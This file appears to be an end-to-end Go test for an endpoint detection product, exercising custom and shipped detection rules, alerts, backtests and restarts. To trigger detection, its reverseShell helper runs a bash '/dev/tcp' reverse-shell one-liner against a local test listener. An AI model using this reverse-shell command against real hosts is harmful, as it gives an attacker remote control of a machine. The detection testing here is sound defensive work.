package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/vedette-edr/vedette/client"
)

// alertTitled waits for an alert whose title holds a text.
func alertTitled(t testing.TB, s *server, text string) client.Alert {
	t.Helper()
	var found client.Alert
	await(t, "the alert "+text, func() error {
		alerts, err := client.All[client.Alert](context.Background(), s.Client, "/api/alerts", client.List{Expand: "evidence"})
		if err != nil {
			return err
		}
		var titles []string
		for _, a := range alerts {
			if strings.Contains(a.Title, text) {
				found = a
				return nil
			}
			titles = append(titles, a.Title)
		}
		return fmt.Errorf("there are %q", titles)
	})
	return found
}

// reverseShell has bash connect to a listener of this test and become a shell there, and
// ends it.
func reverseShell(t testing.TB) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	done := make(chan error, 1)
	go func() {
		c, err := l.Accept()
		if err == nil {
			_, err = fmt.Fprintln(c, "exit")
			defer c.Close()
		}
		done <- err
	}()
	cmd := exec.Command("bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", l.Addr().(*net.TCPAddr).Port))
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Logf("the shell ended with %v: %s", err, out)
	}
	if err := <-done; err != nil {
		t.Fatal(err)
	}
}

// TestRules lets a shipped rule, a continuous and a scheduled custom rule find what was
// really done, and asks backtests about it.
func TestRules(t *testing.T) {
	s := startServer(t)
	startAgent(t, s, "")
	device := s.onlyDevice(t)
	ctx := context.Background()

	// A continuous rule, created as Graph's samples do.
	marker := unique("vedette-marker-")
	dir := t.TempDir()
	var rule client.DetectionRule
	err := s.Client.Do(ctx, http.MethodPost, "/beta/security/rules/detectionRules", json.RawMessage(fmt.Sprintf(`{
		"@odata.type": "#microsoft.graph.security.detectionRule", "displayName": "marker", "isEnabled": true,
		"queryCondition": {"queryText": "DeviceProcessEvents | where FileName == 'true' and ProcessCommandLine has '%s' | project Timestamp, ReportId, DeviceId, FileName, ProcessId, ProcessCommandLine"},
		"schedule": {"period": "0"},
		"detectionAction": {"alertTemplate": {"title": "Marker by {{FileName}}", "description": "d", "severity": "medium", "category": "Execution",
			"recommendedActions": null, "mitreTechniques": ["T1059.004"],
			"impactedAssets": [{"@odata.type": "#microsoft.graph.security.impactedDeviceAsset", "identifier": "deviceId"}]},
			"organizationalScope": null, "responseActions": []}}`, marker)), &rule)
	if err != nil {
		t.Fatal(err)
	}
	began := time.Now()
	if err := exec.Command("true", marker).Run(); err != nil {
		t.Fatal(err)
	}
	a := alertTitled(t, s, "Marker by true")
	t.Logf("the alert of the continuous rule was visible %s after the process", time.Since(began).Round(time.Millisecond))
	if a.DetectionSource != "CustomDetection" || a.MachineID != device.ID || a.Severity != "Medium" || !strings.HasPrefix(a.ID, "ca") {
		t.Errorf("alert %s", mustJSON(t, a))
	}

	began = time.Now()
	reverseShell(t)
	a = alertTitled(t, s, "/dev/tcp")
	t.Logf("the alert of the shipped rule was visible %s after the shell", time.Since(began).Round(time.Millisecond))
	if a.DetectionSource != "WindowsDefenderAtp" || a.Severity != "High" || a.Category != "CommandAndControl" || !strings.HasPrefix(a.ID, "da") {
		t.Errorf("alert %s", mustJSON(t, a))
	}
	kinds := map[string]bool{}
	for _, e := range a.Evidence {
		kinds[e.Type] = true
	}
	if !kinds["Process"] || !kinds["Ip"] {
		t.Errorf("evidence %s", mustJSON(t, a.Evidence))
	}

	// A rule of one's own, imported with its test; one with a red test is refused.
	file := filepath.Join(dir, "marker_file.yaml")
	write := func(path, text string) {
		t.Helper()
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write(file, fmt.Sprintf(`
id: 5d0d9c54-0a6e-4f86-9d2e-0d6f9f6f7a01
name: marker_file
title: "Marker file {{FileName}}"
description: A file of the test was made.
severity: Low
category: Execution
techniques: [T1059.004]
recommendedAction: None.
query: DeviceFileEvents | where ActionType == "FileCreated" and FileName == "%s"
`, marker))
	test := strings.TrimSuffix(file, ".yaml") + ".test.yaml"
	cases := `
fires: [{name: it, events: [{table: DeviceFileEvents, columns: {ActionType: FileCreated, FileName: %q}}]}]
silent: [{name: another, events: [{table: DeviceFileEvents, columns: {ActionType: FileCreated, FileName: other}}]}]
`
	write(test, fmt.Sprintf(cases, "wrong"))
	if out, err := exec.Command(bin("vedette"), "--profile", filepath.Join(s.dir, "bootstrap.json"), "rule", "import", file).CombinedOutput(); err == nil || !strings.Contains(string(out), "red") {
		t.Errorf("a rule whose tests are red was imported: %s", out)
	}
	write(test, fmt.Sprintf(cases, marker))
	s.cli(t, "rule", "import", file)
	write(filepath.Join(dir, marker), "x")
	alertTitled(t, s, "Marker file "+marker)

	// A scheduled rule runs at once over what there is.
	s.huntUntil(t, "the marker in the tables", "DeviceProcessEvents | where ProcessCommandLine has '"+marker+"'", func(rows []map[string]any) bool { return len(rows) > 0 })
	s.cli(t, "rule", "create", "hourly", "--period", "1H", "--title", "Hourly {{FileName}}", "--query",
		"DeviceProcessEvents | where ProcessCommandLine has '"+marker+"' and FileName == 'true' | project Timestamp, ReportId, DeviceId, FileName")
	alertTitled(t, s, "Hourly true")
	await(t, "the outcome of the run", func() error {
		if out := s.cli(t, "rule", "get", "2"); !strings.Contains(out, "completed") {
			return fmt.Errorf("rule get:\n%s", out)
		}
		return nil
	})

	for _, k := range []struct {
		args []string
		want int
	}{
		{[]string{"shell_over_dev_tcp"}, 1}, {[]string{file}, 1}, {[]string{"1"}, 1},
		{[]string{"--query", "DeviceProcessEvents | where FileName == 'true' and ProcessCommandLine has '" + marker + "'"}, 1},
		{[]string{"--indicator", "IpAddress=203.0.113.250"}, 0},
	} {
		await(t, "the backtest "+strings.Join(k.args, " "), func() error {
			var b client.Backtest
			out := s.cli(t, append([]string{"rule", "backtest", "-o", "json"}, k.args...)...)
			if err := json.Unmarshal([]byte(out), &b); err != nil {
				t.Fatalf("%v\n%s", err, out)
			}
			if b.Alerts != k.want {
				return fmt.Errorf("it would have raised %d, want %d", b.Alerts, k.want)
			}
			return nil
		})
	}

	// Rules go on after a restart, and what they raised is not raised again.
	s.stop()
	s.start(t)
	if err := exec.Command("true", marker, "again").Run(); err != nil {
		t.Fatal(err)
	}
	await(t, "an alert after the restart", func() error {
		alerts, err := client.All[client.Alert](ctx, s.Client, "/api/alerts", client.List{})
		if err != nil {
			return err
		}
		count := map[string]int{}
		for _, a := range alerts {
			count[a.Title]++
		}
		for title, want := range map[string]int{"Marker by true": 2, "Marker file " + marker: 1, "Hourly true": 1} {
			if count[title] > want {
				t.Fatalf("%d alerts %q, want %d", count[title], title, want)
			}
		}
		if count["Marker by true"] < 2 {
			return fmt.Errorf("%v", count)
		}
		return nil
	})
}
